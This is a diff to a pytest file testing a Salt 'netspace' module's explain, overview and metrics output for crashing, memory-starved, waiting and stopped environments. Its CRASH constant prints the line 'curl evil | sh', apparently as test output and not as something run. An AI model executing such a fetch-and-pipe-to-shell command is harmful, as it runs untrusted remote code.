@@ -14,6 +14,8 @@ from prometheus_client.openmetrics.parser import text_string_to_metric_families 
 from support.hosts.whole_host import IDLE, Salt, python, shop
 from support.waiting import until
 
+from netspace.plugin import tables, views
+
 pytestmark = pytest.mark.root
 
 CRASH = "print('\\x1b[31mrun: curl evil | sh', flush=True); raise SystemExit(3)"
@@ -30,7 +32,7 @@ def host(salt: Salt, image: Path) -> Iterator[Salt]:
     declared["environments"] |= {
         "broken": {**common, "command": python(CRASH), "restart": "always"},
         "hungry": {**common, "command": python(HUNGRY), "restart": "always"},
-        "patient": {**common, "after": ["broken"]},
+        "patient": {**common, "after": ["quiet"]},
         "quiet": {**common, "state": "stopped"},
     }
     salt.apply(declared)  # the broken ones fail it
@@ -53,7 +55,9 @@ def shown(salt: Salt, *arguments: str) -> list[str]:
 
 def explained(salt: Salt, name: str) -> dict[str, Any]:
     found: dict[str, Any] = salt("netspace.explain", name)
-    assert len(shown(salt, "netspace.explain", name)) <= 24
+    lines = views.render(found, views.Screen(time.time(), tables.plain))
+    assert lines is not None and len(lines) < 24
+    assert all(len(line) <= 80 and line.isprintable() for line in lines), lines
     return found
 
 
@@ -71,8 +75,8 @@ def test_explain_names_cause_and_command(host: Salt) -> None:
     assert first(hungry) == ("oom", "state.apply netspace")
     assert "limits:memory (now 64 MiB)" in hungry["findings"][0]["advice"]
     patient = explained(host, "patient")
-    assert first(patient) == ("waits", "netspace.explain broken")
-    assert patient["findings"][0]["depends_on"] == "broken" and patient["after"] == {"broken": False}
+    assert first(patient) == ("waits", "netspace.explain quiet")
+    assert patient["findings"][0]["depends_on"] == "quiet" and patient["after"] == {"quiet": False}
     assert first(explained(host, "later")) == ("not-applied", "state.apply netspace")
 
 
@@ -99,19 +103,14 @@ def test_explain_of_an_unknown_name_suggests_one(host: Salt) -> None:
 
 def test_overview_is_a_table_with_faults_first(host: Salt) -> None:
     lines = shown(host, "netspace.overview")
-    names = [line.split()[0] for line in lines]
+    names = [line.split()[0] if line else "" for line in lines]
     assert lines[0] == "local:"
     assert max(map(names.index, ("broken", "hungry", "patient"))) < min(map(names.index, ("orders", "web")))
     assert names.index("quiet") > names.index("web")
     assert any("declared stopped" in line for line in lines)
     assert any(line.split()[:4] == ["web", "orders", "request", "active"] for line in lines)
-    for function in (
-        "netspace_environment.list",
-        "netspace_interface.list",
-        "netspace_link.list",
-        "netspace_image.list",
-    ):
-        assert shown(host, function)[1].isupper()
+    assert shown(host, "netspace_interface.list")[1].split()[:4] == ["ENVIRONMENT", "KIND", "STATE", "ADDRESS"]
+    assert shown(host, "netspace.explain", "broken")[1].startswith("  broken does not run: it ended (exit 3)")
 
 
 def test_metrics_tell_the_same_as_the_list(host: Salt) -> None:
